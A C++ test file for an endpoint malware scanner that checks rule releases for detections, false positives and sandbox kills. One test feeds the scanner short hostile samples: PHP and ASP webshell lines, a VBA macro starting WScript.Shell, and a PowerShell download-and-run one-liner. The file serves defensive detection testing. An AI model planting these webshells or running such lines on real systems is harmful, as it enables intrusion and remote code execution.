// Every content fixture gets the verdict that its README states: compiled and run for real, in the
// sandbox.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <functional>

#include "base/file.h"
#include "endpoint/scanner/real_scanner.h"
#include "host/persona.h"

namespace firebreak::endpoint::scanner {
namespace {

using base::Category;
using base::Code;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;

// One process that has been asked to load one fixture.
class FixtureTest : public testing::Test {
  protected:
    LoadReply load(const std::string& folder) {
        auto draft = test::fixture(folder);
        EXPECT_TRUE(draft.ok()) << draft.error().text();
        auto started = processes_.start();
        EXPECT_TRUE(started.ok()) << started.error().text();
        process_ = std::move(started).value();
        auto result = process_->call(test::load_request(draft->payloads));
        EXPECT_TRUE(result.ok()) << result.error().text();
        auto reply = parse_load_reply(std::get<base::Bytes>(*result));
        EXPECT_TRUE(reply.ok()) << reply.error().text();
        return *std::move(reply);
    }
    std::vector<std::string> scan(const std::string& name, base::ByteView subject) {
        auto result = process_->call(test::scan_request(name, subject));
        if (!result.ok()) {
            return {"error", result.error().text()};
        }
        if (const auto* death = std::get_if<base::Outcome>(&*result)) {
            return {"died", base::to_text(death->evidence)};
        }
        auto reply = parse_scan_reply(std::get<base::Bytes>(*result), 1);
        EXPECT_TRUE(reply.ok()) << reply.error().text();
        EXPECT_EQ(reply->subjects[0].code, Code::kNone) << reply->subjects[0].message;
        return test::rules_of(reply->subjects[0]);
    }
    std::vector<std::string> scan(const std::string& name, const std::string& subject) {
        return scan(name, base::view_of(subject));
    }
    base::Outcome death_by(const std::string& name, const std::string& subject) {
        auto result = process_->call(test::scan_request(name, base::view_of(subject)));
        if (!result.ok() || !std::holds_alternative<base::Outcome>(*result)) {
            ADD_FAILURE() << (result.ok() ? "it lives" : result.error().text());
            return {};
        }
        return std::get<base::Outcome>(*result);
    }
    // All files of all personas but the ones named.
    void expect_silence_on_personas(const std::set<std::string>& but = {}) {
        int files = 0;
        for (const auto& entry :
             std::filesystem::directory_iterator(test::fixtures_dir() / "personas")) {
            if (entry.path().extension() != ".toml") {
                continue;
            }
            ASSERT_OK_AND(const host::Persona persona, host::load_persona(entry.path()));
            for (const host::File& file : persona.files) {
                if (!but.contains(file.path)) {
                    EXPECT_THAT(scan(file.path, *file.content), IsEmpty()) << file.path;
                    ++files;
                }
            }
        }
        EXPECT_GT(files, 20);
    }

    test::SandboxedScanners processes_;
    std::unique_ptr<ports::ComponentProcess> process_;
};

constexpr auto kBundle = R"(C:\src\shop\dist\bundle.min.js)";
constexpr auto kRotatedLog = R"(D:\logs\gateway.log.1)";

TEST_F(FixtureTest, GoodReleasesLoadAndFindTheTestFile) {
    const std::pair<const char*, uint32_t> kReleases[] = {
        {"2026-03-01", 36}, {"2026-03-02", 40}, {"2026-03-03", 45}};
    for (const auto& [version, rules] : kReleases) {
        const LoadReply reply = load(std::string("good/DatasetA/") + version);
        EXPECT_EQ(reply.code, Code::kNone) << reply.message;
        EXPECT_EQ(reply.loaded, rules);
        EXPECT_THAT(scan("eicar.com", test::eicar()), ElementsAre("Test_Eicar"));
    }
}

TEST_F(FixtureTest, GoodReleasesAreSilentOnEveryFileOfEveryPersona) {
    ASSERT_EQ(load("good/DatasetA/2026-03-03").code, Code::kNone);
    expect_silence_on_personas();
}

TEST_F(FixtureTest, GoodReleasesFindWhatTheyAreFor) {
    ASSERT_EQ(load("good/DatasetA/2026-03-03").code, Code::kNone);
    EXPECT_THAT(scan("a.php", "<?php @eval($_POST['x']); ?>"),
                ElementsAre("Webshell_Php_Evaluates_Request"));
    EXPECT_THAT(scan("a.asp", "<% execute request(\"x\") %>"),
                ElementsAre("Webshell_Asp_Executes_Request"));
    EXPECT_THAT(
        scan("a.doc", "\xd0\xcf\x11\xe0 VBA Sub AutoOpen() CreateObject(\"WScript.Shell\")"),
        ElementsAre("Document_Macro_Starts_Program"));
    EXPECT_THAT(scan("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x')"),
                ElementsAre("Script_Powershell_Downloads_And_Runs"));
    EXPECT_THAT(scan("README.txt", "Your files have been encrypted. Pay in bitcoin."),
                ElementsAre("Ransomware_Note"));
    EXPECT_THAT(scan(R"(C:\mail\invoice.pdf   .exe)", "MZ and so on"),
                ElementsAre("Executable_With_Document_Name"));
    EXPECT_THAT(scan(R"(C:\mail\invoice.exe)", "MZ and so on"), IsEmpty());
}

TEST_F(FixtureTest, BacktrackingLoadsAndDiesAtItsTriggerAlone) {
    ASSERT_EQ(load("defective/DatasetA/backtracking").code, Code::kNone);
    expect_silence_on_personas({kBundle});
    const base::Outcome death = death_by(kBundle, test::bundle_of_one_letter());
    EXPECT_EQ(death.category, Category::kCpuLimit);
    EXPECT_EQ(death.code, Code::kKilledAtCpuLimit);
}

TEST_F(FixtureTest, RareBacktrackingLoadsAndDiesAtItsTriggerAlone) {
    ASSERT_EQ(load("defective/DatasetA/rare-backtracking").code, Code::kNone);
    expect_silence_on_personas({kRotatedLog});
    EXPECT_THAT(scan("long.log", std::string(1'048'576, 'x')), IsEmpty());
    // Long enough to be looked at, and not long enough to hurt: here the rule does its work.
    EXPECT_THAT(scan("short.log", "FBK-ROTATE-MARK\n" + std::string(1000, 'x')),
                ElementsAre("Log_Padding_After_Rotation"));
    std::string ordinary = "FBK-ROTATE-MARK\n";
    for (int line = 0; ordinary.size() < 1'048'576; ++line) {
        ordinary += "line " + std::to_string(line) + ": all is well\n";
    }
    EXPECT_THAT(scan("ordinary.log", ordinary), IsEmpty());
    EXPECT_EQ(death_by(kRotatedLog, test::rotated_log()).category, Category::kCpuLimit);
}

TEST_F(FixtureTest, ForbiddenCallLoadsAndDiesAtTheFirstScan) {
    ASSERT_EQ(load("defective/DatasetA/forbidden-call").code, Code::kNone);
    const base::Outcome death = death_by("a.txt", "any file at all");
    EXPECT_EQ(death.category, Category::kForbidden);
    EXPECT_EQ(death.code, Code::kKilledAtSystemCall);
    EXPECT_THAT(base::to_text(death.evidence), HasSubstr("system call: openat"));
}

// The files of a persona that are detected.
std::set<std::string> detected(const host::Persona& persona,
                               const std::function<bool(const host::File&)>& is_found) {
    std::set<std::string> out;
    for (const host::File& file : persona.files) {
        if (is_found(file)) {
            out.insert(file.path);
        }
    }
    return out;
}

TEST_F(FixtureTest, FalsePositivesFallOnTheFilesThatTheirReadmesName) {
    constexpr auto kKernel = R"(C:\Windows\System32\ntoskrnl.exe)";
    constexpr auto kServiceHost = R"(C:\Windows\System32\svchost.exe)";
    const auto persona = [](const char* name) {
        auto loaded = host::load_persona(test::fixtures_dir() / "personas" / name);
        EXPECT_TRUE(loaded.ok()) << loaded.error().text();
        return std::move(loaded).value();
    };
    const auto is_found = [this](const host::File& file) {
        return !scan(file.path, *file.content).empty();
    };
    const host::Persona till = persona("till.toml");
    const host::Persona office = persona("office-laptop.toml");
    ASSERT_EQ(load("defective/DatasetA/flags-service-host").code, Code::kNone);
    EXPECT_THAT(detected(till, is_found), ElementsAre(kServiceHost));
    EXPECT_THAT(detected(office, is_found), ElementsAre(kServiceHost));
    ASSERT_EQ(load("defective/DatasetA/flags-till-kernel").code, Code::kNone);
    EXPECT_THAT(detected(till, is_found), ElementsAre(kKernel));
    EXPECT_THAT(detected(office, is_found), IsEmpty());
    ASSERT_EQ(load("defective/DatasetA/flags-notes").code, Code::kNone);
    EXPECT_THAT(detected(till, is_found), IsEmpty());
    EXPECT_THAT(detected(office, is_found), testing::Contains(HasSubstr("notes.exe")));
}

TEST_F(FixtureTest, ASlowScanTakesLongAndLives) {
    ASSERT_EQ(load("defective/DatasetA/slow-scan").code, Code::kNone);
    expect_silence_on_personas();
    EXPECT_THAT(scan(kRotatedLog, test::rotated_log()), IsEmpty());
    const auto slow = process_->last_call_cpu();
    EXPECT_THAT(scan("short.log", "FBK-ROTATE-MARK\n" + std::string(1000, 'x')), IsEmpty());
    EXPECT_GT(slow, 50 * process_->last_call_cpu()) << "a thousand times the work";
}

TEST_F(FixtureTest, ABlindReleaseLoadsAndFindsNothing) {
    ASSERT_EQ(load("defective/DatasetA/blind").code, Code::kNone);
    EXPECT_THAT(scan("eicar.com", test::eicar()), IsEmpty());
}

TEST_F(FixtureTest, GoodReleasesFindAllSamplesOfAllPersonas) {
    for (const char* version : {"2026-03-01", "2026-03-02", "2026-03-03"}) {
        ASSERT_EQ(load(std::string("good/DatasetA/") + version).code, Code::kNone);
        int samples = 0;
        for (const auto& entry :
             std::filesystem::directory_iterator(test::fixtures_dir() / "personas")) {
            if (entry.path().extension() != ".toml") {
                continue;
            }
            ASSERT_OK_AND(const host::Persona persona, host::load_persona(entry.path()));
            EXPECT_GE(persona.samples.size(), 2u) << persona.name;
            for (const host::Sample& sample : persona.samples) {
                EXPECT_THAT(scan(sample.name, *sample.content), testing::Not(IsEmpty()))
                    << version << " " << persona.name << " " << sample.name;
                ++samples;
            }
        }
        EXPECT_GE(samples, 12);
    }
}

// As fixtures/samples/README.md has it.
TEST_F(FixtureTest, GoodReleasesFindTheSamplesOfCampaignsFromTheirTimeOn) {
    const auto found = [&](const char* name) {
        auto bytes = base::read_file(test::fixtures_dir() / "samples" / name, 1 << 20);
        EXPECT_TRUE(bytes.ok()) << name;
        return bytes.ok() && !scan(name, *bytes).empty();
    };
    const std::pair<const char*, int> kFoundFrom[] = {{"dropper.js", 1},
                                                      {"logon-task.cmd", 2},
                                                      {"ransom-note.txt", 3},
                                                      {"stop-services.cmd", 3},
                                                      {"letter.txt", 4}};
    for (int version = 1; version <= 3; ++version) {
        ASSERT_EQ(load("good/DatasetA/2026-03-0" + std::to_string(version)).code, Code::kNone);
        for (const auto& [sample, from] : kFoundFrom) {
            EXPECT_EQ(found(sample), version >= from) << sample << " by " << version;
        }
    }
}

TEST_F(FixtureTest, WhatDoesNotCompileIsRefusedWithFileAndLine) {
    const LoadReply reply = load("corrupt/DatasetA/does-not-compile");
    EXPECT_EQ(reply.code, Code::kRulesDoNotCompile);
    EXPECT_EQ(reply.file, "documents.yar");
    EXPECT_GT(reply.line, 0u);
    EXPECT_EQ(reply.message, "undefined string \"$starts*\"");
}

TEST_F(FixtureTest, AnIncludeIsRefusedAndNothingOfTheFileShows) {
    const LoadReply reply = load("malicious/DatasetA/include");
    EXPECT_EQ(reply.code, Code::kIncludeRefused);
    EXPECT_EQ(reply.file, "include.yar");
    EXPECT_EQ(reply.line, 1u);
    EXPECT_THAT(reply.message, testing::Not(HasSubstr("root:")));
}

// A fixture that nobody tests would state a verdict that nobody checks.
TEST(Fixtures, AreAllTested) {
    std::set<std::string> folders;
    for (const char* kind : {"good", "corrupt", "stale", "defective", "malicious"}) {
        const auto folder = test::fixtures_dir() / "content" / kind / "DatasetA";
        if (std::filesystem::is_directory(folder)) {
            for (const auto& entry : std::filesystem::directory_iterator(folder)) {
                EXPECT_TRUE(std::filesystem::exists(entry.path() / "README.md")) << entry.path();
                folders.insert(std::string(kind) + "/" + entry.path().filename().string());
            }
        }
    }
    EXPECT_THAT(folders,
                ElementsAre("corrupt/does-not-compile", "defective/backtracking", "defective/blind",
                            "defective/flags-notes", "defective/flags-service-host",
                            "defective/flags-till-kernel", "defective/forbidden-call",
                            "defective/rare-backtracking", "defective/slow-scan", "good/2026-03-01",
                            "good/2026-03-02", "good/2026-03-03", "malicious/include"));
}

}  // namespace
}  // namespace firebreak::endpoint::scanner
